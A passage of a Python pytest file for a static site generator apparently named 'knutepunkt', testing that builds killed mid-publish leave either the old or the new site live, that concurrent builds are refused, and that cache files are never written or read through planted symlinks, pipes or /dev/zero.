        import hub.publish
        hub.publish._exchange = hooked("exchange", hub.publish._exchange)
    except ImportError:
        pass
    sys.argv = ["knutepunkt", *sys.argv[1:]]
    runpy.run_module("hub", run_name="__main__")
''')


def killed_run(folder: Path, args: list[str], out: str, kill_at: int) -> tuple[int, list[str]]:
    """Run ``knutepunkt ARGS`` in ``folder``, killed at the ``kill_at``-th call (0: never); the exit
    code and the calls it made."""
    log = folder / "calls.log"
    log.unlink(missing_ok=True)
    env = {**ENV, "OUT": str(folder / out), "KILL_AT": str(kill_at), "KILL_LOG": str(log)}
    r = subprocess.run([sys.executable, "-c", KILLER, *args], cwd=folder, env=env, capture_output=True, text=True,
                       timeout=600)
    assert r.returncode in (0, -9), r.stderr
    return r.returncode, log.read_text().split() if log.exists() else []


def kill_points(calls: list[str]) -> list[int]:
    """The first call, each first and last call of a kind, and the last three."""
    points = {1, len(calls), len(calls) - 1, len(calls) - 2}
    for kind in set(calls):
        where = [n for n, c in enumerate(calls, start=1) if c == kind]
        points |= {where[0], where[-1], where[len(where) // 2]}
    return sorted(p for p in points if p >= 1)


def site(folder: Path) -> dict[str, str]:
    return tree_digest(folder) if folder.is_dir() else {}


def killed_anywhere_leaves_old_or_new(base: Path, args: list[str], old: dict[str, str],
                                      factory: pytest.TempPathFactory) -> list[str]:
    """Run ``args`` on copies of ``base``, SIGKILLed at each kill point: the live site must be ``old`` or
    what an uninterrupted run makes, and the next run must finish the job and clear what was left."""
    reference = copy_of(base, factory, "reference")
    code, calls = killed_run(reference, args, "site", 0)
    new = site(reference / "site")
    assert code == 0 and new != old
    for n in kill_points(calls):
        work = copy_of(base, factory, f"killed-{n}")
        assert killed_run(work, args, "site", n)[0] == -9
        assert site(work / "site") in (old, new), f"killed at call {n} ({calls[n - 1]}): a mix is live"
        again = cli(*args, cwd=work)
        assert again.returncode == 0, again.stderr
        assert site(work / "site") == new
        assert sorted(p.name for p in work.iterdir() if p.name.startswith(".site")) == []
    return calls


def two_district_tree(tree) -> None:
    add_district(tree, "sydby", "Sydby")
    add_district(tree, "vestby", "Vestby")
    tree.write("districts/sydby/services/helsestasjon.md",
               (tree.root / "districts/nordby/services/helsestasjon.md").read_text("utf-8"))


@pytest.mark.parametrize("mode", ["incremental", "incremental from the spare", "full", "district"])
def test_a_build_killed_while_it_publishes_leaves_the_old_site_or_the_new_one_never_a_mix(tree, tmp_path_factory,
                                                                                         mode):
    two_district_tree(tree)
    base = tree.root.parent
    args = {"full": ["build", "--out", "site", "-j", "1", "--full"],
            "district": ["build", "--out", "site", "-j", "1", "--district", "nordby"]}.get(
        mode, ["build", "--out", "site", "-j", "1"])
    assert cli(*args, cwd=base).returncode == 0
    service = tree.root / "districts/nordby/services/helsestasjon.md"
    if mode == "incremental from the spare":  # an incremental build before this one left a spare copy
        service.write_text(service.read_text("utf-8").replace("Vaksiner og råd", "Vaksiner og gode råd"), "utf-8")
        assert cli(*args, cwd=base).returncode == 0
        assert (base / ".knutepunkt-cache/site/spare").is_dir()
    old = site(base / "site")
    service.write_text(service.read_text("utf-8").replace("Vaksiner", "Vaksiner, veiing"), "utf-8")

    calls = killed_anywhere_leaves_old_or_new(base, args, old, tmp_path_factory)
    assert calls.count("exchange") == 1  # live in one step


def test_a_spare_copy_left_half_caught_up_is_never_built_on(tree, tmp_path_factory):
    """Killed after the swap, while the replaced output is being made a copy of the new one (the spare,
    which the next build lays its changes over), the build leaves a spare that copies nothing: the next
    build with an edit must still publish what a full build makes."""
    two_district_tree(tree)
    base = tree.root.parent
    args = ["build", "--out", "site", "-j", "1"]
    service = tree.root / "districts/nordby/services/helsestasjon.md"
    for old, new in (("Vaksiner og råd", "Vaksiner og gode råd"), ("gode råd", "gode råd, også på kveldstid")):
        assert cli(*args, cwd=base).returncode == 0  # the first leaves no spare, the second does
        service.write_text(service.read_text("utf-8").replace(old, new), "utf-8")
    calls = killed_run(copy_of(base, tmp_path_factory, "reference"), args, "site", 0)[1]
    swapped = calls.index("exchange") + 1
    assert len(calls) > swapped + 2, calls  # the catching up comes after the swap
    for n in sorted({swapped + 1, (swapped + len(calls)) // 2, len(calls) - 1}):
        work = copy_of(base, tmp_path_factory, f"half-{n}")
        assert killed_run(work, args, "site", n)[0] == -9
        edited = work / "content/districts/nordby/services/helsestasjon.md"
        edited.write_text(edited.read_text("utf-8").replace("kveldstid", "kveldstid og i helgene"), "utf-8")
        assert cli(*args, cwd=work).returncode == 0
        assert cli("build", "--out", "full", "-j", "1", "--full", cwd=work).returncode == 0
        assert site(work / "site") == site(work / "full"), f"killed at call {n} ({calls[n - 1]})"


def test_a_region_build_killed_while_it_publishes_leaves_the_old_region_or_the_new_one(tree, tmp_path_factory):
    base = tree.root.parent
    assert cli("build", "--out", "member", "--no-search", cwd=base).returncode == 0
    (base / "region.yaml").write_text(
        "name: Region\nbase_url: https://region.example.no/\nmembers:\n  - {slug: test, source: member}\n", "utf-8")
    args = ["region", "build", "region.yaml", "--out", "site"]
    assert cli(*args, cwd=base).returncode == 0
    old = site(base / "site")
    (base / "region.yaml").write_text((base / "region.yaml").read_text("utf-8").replace(
        "name: Region", "name: Regionen vår"), "utf-8")
    calls = killed_anywhere_leaves_old_or_new(base, args, old, tmp_path_factory)
    assert calls[-2:] == ["exchange", "rename"]  # live in one step; the replaced region moved aside, deleted later


def test_two_builds_into_one_folder_at_once_do_not_cross(tree, tmp_path):
    from hub.publish import OutputRefused, staging_folder

    out = tmp_path / "site"
    with staging_folder(out, tmp_path / ".knutepunkt-cache") as first:
        first.mkdir()
        with pytest.raises(OutputRefused, match="en annen kjøring"), staging_folder(out, tmp_path / ".knutepunkt-cache"):
            pass
        assert first.is_dir()  # the second run neither removed nor touched what the first is writing


def test_a_kept_file_is_written_new_and_read_only_as_a_regular_file_never_through_a_link(tmp_path):
    """A restored cache may hold anything: a link at the name a kept file is written under first is
    removed, not written through; a link, a pipe or a device where a kept file is read is as good as
    no file (reading /dev/zero never ends), and the piece is made again."""
    from hub.atomic import _temporary, read_kept, write_kept

    elsewhere = tmp_path / "elsewhere.txt"
    elsewhere.write_text("someone's own file")
    kept = tmp_path / "cache" / "piece"
    kept.parent.mkdir()
    _temporary(kept).symlink_to(elsewhere)
    write_kept(kept, b"made here")
    assert kept.read_bytes() == b"made here" and elsewhere.read_text() == "someone's own file"
    assert read_kept(kept) == b"made here"

    for planted in ("link", "zero", "pipe"):
        kept.unlink()
        if planted == "link":
            kept.symlink_to(elsewhere)
        elif planted == "zero":
            kept.symlink_to("/dev/zero")
        else:
            os.mkfifo(kept)
        with pytest.raises(OSError):
            read_kept(kept)
